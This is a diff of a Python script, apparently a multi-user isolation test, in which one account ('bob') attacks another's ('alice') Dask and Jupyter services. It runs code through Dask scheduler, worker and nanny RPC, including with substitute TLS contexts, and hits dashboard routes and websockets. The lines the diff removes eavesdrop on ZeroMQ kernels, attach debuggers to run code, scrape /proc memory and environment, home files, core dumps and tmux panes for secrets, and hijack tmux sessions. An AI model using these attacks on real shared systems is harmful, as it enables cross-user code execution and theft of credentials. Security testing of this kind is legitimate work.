@@ -1,7 +1,8 @@
 """What bob tries against alice: run by his account as ``python -c <this text> ATTACK [WORD …]``; prints JSON.
 
 ``fell`` is what he got, ``tried`` how many doors he tried. He knows what every account of a machine sees: who listens
-where, the names of Unix sockets, command lines. Standard library only, but where he speaks Dask or ZeroMQ.
+where, the names of Unix sockets, command lines. Standard library only, but where he speaks Dask or ZeroMQ. What he
+overhears and reads stands in `snooping`, which is run with it as one text.
 """
 
 import asyncio
@@ -10,17 +11,15 @@ import http.client
 import json
 import os
 import pwd
+import re
 import socket
 import ssl
-import subprocess
 import sys
 import tempfile
 
 ALICE = pwd.getpwnam("alice").pw_uid
-ROUTES = (
-    *("/", "/status", "/info/main/workers.html", "/info/main/logs.html", "/individual-plots.json", "/json/counts.json"),
-    *("/json/identity.json", "/metrics", "/health", "/api/v1/get_workers", "/ports.json", "/info", "/sitemap.json"),
-)
+# Tried in any case; what else there is, the control's own applications say, see `routes`.
+ROUTES = ("/", "/status", "/info/main/workers.html", "/json/counts.json", "/metrics", "/health", "/ports.json", "/info")
 MOST = 1_000_000  # bytes of a file that are looked through
 
 
@@ -92,13 +91,13 @@ async def call(address, **how):
         return f"{kind} as {answer['result']}"
 
 
-async def run_code(ways):
-    """Try all of alice's ports in all `ways`, at once."""
+async def run_code(ways, places=None):
+    """Try all of alice's ports in all `ways`, at once; or `places`."""
     import logging
 
     logging.disable(logging.CRITICAL)
     tries = []
-    for address, port, greeting in doors():
+    for address, port, greeting in doors(places):
         place = f"[{address}]:{port}" if ":" in address else f"{address}:{port}"
         if not greeting and ask(address, port, "GET", "/")[0] is not None:
             continue  # a web server: Dask takes its answer for the length of a message
@@ -109,15 +108,15 @@ async def run_code(ways):
     done = await asyncio.gather(*tries, return_exceptions=True)
     reached = [name for name in unix_sockets() if reaches(name)]
     fell = [one for one in done if isinstance(one, str)]
-    return {"fell": sorted({*fell, *reached}), "tried": len(tries) + len(unix_sockets())}
+    return {"fell": sorted({*fell, *reached}), "tried": len(tries) + len(unix_sockets()), "ways": len(ways)}
 
 
-def doors():
-    """Return addresses and ports of alice's, each with what it says by itself: Dask's greeting, or nothing.
+def doors(places=None):
+    """Return addresses and ports of alice's, or `places`, each with what it says by itself.
 
-    What greets as ZeroMQ does is a kernel's, see `eavesdrop`.
+    That is Dask's greeting, or nothing; what greets as ZeroMQ does is a kernel's, see `eavesdrop`.
     """
-    places = tcp_ports()
+    places = tcp_ports() if places is None else places
     greeted = [(*place, greeting) for place, greeting in zip(places, at_once(greeting_of, places), strict=True)]
     return [door for door in greeted if not door[2].startswith(b"\xff")]
 
@@ -142,11 +141,15 @@ def reaches(name):
         return struct.unpack("3i", connection.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[1] == ALICE
 
 
-def code():
-    """Run code through scheduler, worker and nanny: plainly, without a certificate, with one of his own."""
+def code(address=None, *ports):
+    """Run code through scheduler, worker and nanny: plainly, without a certificate, with one of his own.
+
+    At `address`, or where alice listens.
+    """
     plain = ("tcp", {})
     tls = [("tls", {"connection_args": {"ssl_context": context}}) for context in contexts()]
-    return asyncio.run(run_code([plain, *tls]))
+    places = [(address, int(port)) for port in ports] if address else None
+    return asyncio.run(run_code([plain, *tls], places))
 
 
 def replay(path):
@@ -171,20 +174,79 @@ def ask(address, port, method, path, body=None, context=None, timeout=8):
         connection.close()
 
 
+def routes():
+    """Return the paths of all pages of alice's scheduler and workers, from their applications: by code as her."""
+    plain = [door[:2] for door in doors() if b"pickle-protocol" in door[2]]
+
+    async def ask_all():
+        return await asyncio.gather(*(routes_at(f"tcp://{address}:{port}") for address, port in plain))
+
+    found = asyncio.run(ask_all())
+    # Each page of Bokeh's has files and a websocket like any other's, see `websocket`; its single plots are one sort.
+    paths = {path for paths in found for path in paths}
+    no_page = re.compile(r"/(ws|metadata|autoload\.js|static/.*|sitemap\.json|favicon\.ico)$")
+    fell = [path for path in paths if not no_page.search(path)]
+    plots = sorted(path for path in fell if path.startswith("/individual-"))
+    return {"fell": sorted({*fell} - {*plots[1:]}), "tried": len(found)}
+
+
+async def routes_at(address):
+    """Return the paths of one scheduler's or worker's pages; none of a nanny's, which has none."""
+    from distributed.core import rpc
+    from distributed.protocol.pickle import dumps, loads
+
+    async with rpc(address, timeout=8) as there:
+        kind = (await there.identity())["type"]
+        if "Nanny" in kind:
+            return ()
+        run = there.run_function if "Scheduler" in kind else there.run
+        answer = await run(function=dumps(paths_of), wait=True, args=dumps(()), kwargs=dumps({}))
+        found = answer["result"]
+        return [path_like(pattern) for pattern in (loads(found) if isinstance(found, bytes) else found)]
+
+
+def paths_of(dask_scheduler=None, dask_worker=None):
+    """Return the patterns of all paths that a scheduler or worker answers."""
+    found, top = set(), (dask_scheduler or dask_worker).http_application
+
+    def walk(router):
+        for rule in router.rules:
+            if hasattr(rule.matcher, "regex"):
+                found.add(rule.matcher.regex.pattern)
+            if hasattr(rule.target, "rules"):
+                walk(rule.target)
+
+    for application in (top, *top.applications):
+        walk(application.default_router)
+        walk(application.wildcard_router)
+        found.update(getattr(application, "app_paths", ()))  # of Bokeh
+    return sorted(found)
+
+
+def path_like(pattern):
+    """Return a path that a pattern means."""
+    path = re.sub(r"\([^()]*\)", "0", pattern.rstrip("$").replace("/?", ""))
+    return path.replace("\\", "") or "/"
+
+
 def pages(address=None, *ports):
-    """Read every page, open the websocket of the dashboard, and give an order; at `address`, or where alice listens."""
+    """Read every page, open the websocket of the dashboard, and give an order; at `address`, or where alice listens.
+
+    His input says which pages there are besides `ROUTES`.
+    """
+    paths = sorted({*ROUTES, *sys.stdin.read().split()})
     places = [(address, int(port)) for port in ports] if address else [door[:2] for door in doors() if not door[2]]
     ways = (None, *contexts())
-    fell = {one for found in at_once(pages_of, [(*place, ways) for place in places]) for one in found}
-    return {"fell": sorted(fell), "tried": len(places) * len(ways)}
+    fell = {one for found in at_once(pages_of, [(*place, ways, paths) for place in places]) for one in found}
+    return {"fell": sorted(fell), "tried": len(places) * len(ways), "ways": len(ways)}
 
 
-def pages_of(address, port, ways):
-    """Return what one port gives away, asked plainly or else with TLS."""
+def pages_of(address, port, ways, paths):
+    """Return what one port gives away of `paths`, asked plainly or else with TLS."""
     for context in ways:
         if ask(address, port, "GET", "/health", context=context)[0] is None:
             continue
-        found = {path: ask(address, port, "GET", path, context=context)[0] for path in ROUTES}
+        found = {path: ask(address, port, "GET", path, context=context)[0] for path in paths}
         fell = [path for path, status in found.items() if status == 200]
         order = json.dumps({"workers": []})
         if ask(address, port, "POST", "/api/v1/retire_workers", order, context=context)[0] == 200:
@@ -193,6 +255,21 @@ def pages_of(address, port, ways):
             fell.append("websocket")
         return fell
     return []
+
+
+def knock(address, *ports):
+    """Connect to ports of another machine, whatever would be spoken there."""
+    found = at_once(is_reached, [(address, int(port)) for port in ports])
+    return {"fell": [port for port, reached in zip(ports, found, strict=True) if reached], "tried": len(ports)}
+
+
+def is_reached(address, port):
+    """Tell whether something accepts a connection."""
+    try:
+        socket.create_connection((address, port), timeout=5).close()
+    except OSError:
+        return False
+    return True
 
 
 def at_once(function, arguments):
@@ -205,8 +282,6 @@ def at_once(function, arguments):
 
 def websocket(address, port):
     """Tell whether the dashboard lets bob's websocket in."""
-    import re
-
     page = ask(address, port, "GET", "/status")[1]
     token = re.findall(r'"token":"([^"]+)"', page)
     if not token:
@@ -256,143 +331,6 @@ def is_open(connection):
         return True
     except OSError:
         return False
-
-
-# --- kernels ---
-
-
-def eavesdrop(marker):
-    """Listen to all of alice's ports as a front end listens to a kernel, until told to stop; tell what was heard."""
-    import zmq
-
-    context, sockets = zmq.Context(), []
-    for address, port in tcp_ports():
-        one = context.socket(zmq.SUB)
-        one.setsockopt(zmq.SUBSCRIBE, b"")
-        one.setsockopt(zmq.IPV6, 1)
-        one.connect(f"tcp://[{address}]:{port}" if ":" in address else f"tcp://{address}:{port}")
-        sockets.append(one)
-    print("listening", flush=True)
-    poller, heard = zmq.Poller(), b""
-    for one in [*sockets, sys.stdin]:
-        poller.register(one, zmq.POLLIN)
-    while sys.stdin.fileno() not in (ready := dict(poller.poll())):
-        heard += b"".join(b"".join(one.recv_multipart()) for one in ready if one in sockets)
-        if marker.encode() in heard:
-            print("heard", flush=True)
-            break
-    context.destroy(linger=0)
-    return {"fell": [marker] if marker.encode() in heard else [], "tried": len(sockets)}
-
-
-def debug():
-    """Attach to all of alice's ports as a debugger, and run code."""
-    places = tcp_ports()
-    return {"fell": sorted(filter(None, at_once(debug_at, places))), "tried": len(places)}
-
-
-def debug_at(address, port):
-    """Return what a port runs for a debugger, and as whom; None where it is none or lets nobody in."""
-    with contextlib.suppress(OSError, ValueError), socket.create_connection((address, port), timeout=5) as connection:
-        stream = connection.makefile("rwb")
-        tell_debugger(stream, "initialize", {"adapterID": "bob"})
-        if not answer_of(stream, "initialize"):
-            return None
-        tell_debugger(stream, "attach", {"justMyCode": False})
-        answer_of(stream, "initialized")
-        tell_debugger(stream, "configurationDone", {})
-        if not answer_of(stream, "attach"):
-            return None
-        code = "__import__('os').getuid()"
-        tell_debugger(stream, "evaluate", {"expression": code, "context": "repl"})
-        return f"code as {answer_of(stream, 'evaluate')['result']}"
-    return None
-
-
-def tell_debugger(stream, command, arguments):
-    """Send a request as the Debug Adapter Protocol has it."""
-    message = json.dumps({"seq": 1, "type": "request", "command": command, "arguments": arguments}).encode()
-    stream.write(b"Content-Length: %d\r\n\r\n%s" % (len(message), message))
-    stream.flush()
-
-
-def answer_of(stream, name):
-    """Return the body of the answer to a request, or of the event `name`; None where it was refused."""
-    while line := stream.readline(1000):
-        if line.startswith(b"Content-Length: "):
-            length = int(line.split()[1])
-            stream.readline()
-            one = json.loads(stream.read(length))
-            if name in (one.get("command"), one.get("event")):
-                return (one.get("body") or {"nothing": True}) if one.get("success", True) else None
-    raise OSError("it is none, or has gone")
-
-
-# --- secrets ---
-
-
-def texts():
-    """Yield what bob can read of alice, with where he found it."""
-    for name in sorted(name for name in os.listdir("/proc") if name.isdigit()):
-        for part in ("cmdline", "environ", "mem", "maps", "stack"):
-            yield f"/proc/*/{part}", read(f"/proc/{name}/{part}")
-        for link in ("cwd", "exe", "root"):
-            with contextlib.suppress(OSError):
-                yield f"/proc/*/{link}", os.readlink(f"/proc/{name}/{link}").encode()
-    yield "ps", subprocess.run(["ps", "auxwwe"], capture_output=True, check=False).stdout
-    yield "/proc/net/unix", read("/proc/net/unix")
-    for top in (
-        "/tmp",
-        "/var/tmp",
-        "/dev/shm",
-        "/run",
-        "/home/alice",
-        "/scratch",
-        "/var/crash",
-        "/var/lib/systemd/coredump",
-    ):
-        for directory, _, names in os.walk(top):
-            for name in names:
-                yield "files", read(os.path.join(directory, name))
-    for name in unix_sockets():
-        if "tmux" in name and not name.startswith("\0"):
-            for words in (["show-environment", "-g"], ["list-panes", "-a"], ["capture-pane", "-p"]):
-                done = subprocess.run(["tmux", "-S", name, *words], capture_output=True, check=False, timeout=10)
-                yield "tmux", done.stdout
-
-
-def read(path):
-    """Return the start of a file; nothing where bob may not read it."""
-    with contextlib.suppress(OSError, ValueError):
-        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
-        try:
-            return os.read(descriptor, MOST)
-        finally:
-            os.close(descriptor)
-    return b""
-
-
-def look():
-    """Look for secrets of alice's everywhere: ps, /proc, tmux, logs, files, core files. His input says for which."""
-    markers = sys.stdin.read().split()  # arguments would be found themselves
-    fell, tried = set(), 0
-    for where, text in texts():
-        tried += 1
-        fell |= {f"{marker} in {where}" for marker in markers if marker.encode() in text}
-    return {"fell": sorted(fell), "tried": tried}
-
-
-def join():
-    """Join alice's tmux, and run something in it."""
-    fell, tried = [], 0
-    for name in unix_sockets():
-        if "tmux" in name:
-            tried += 1
-            for words in (["list-sessions"], ["new-window", "-d", "true"]):
-                done = subprocess.run(["tmux", "-S", name, *words], capture_output=True, check=False, timeout=10)
-                if done.returncode == 0:
-                    fell.append(words[0])
-    return {"fell": fell, "tried": tried}
 
 
 if __name__ == "__main__":
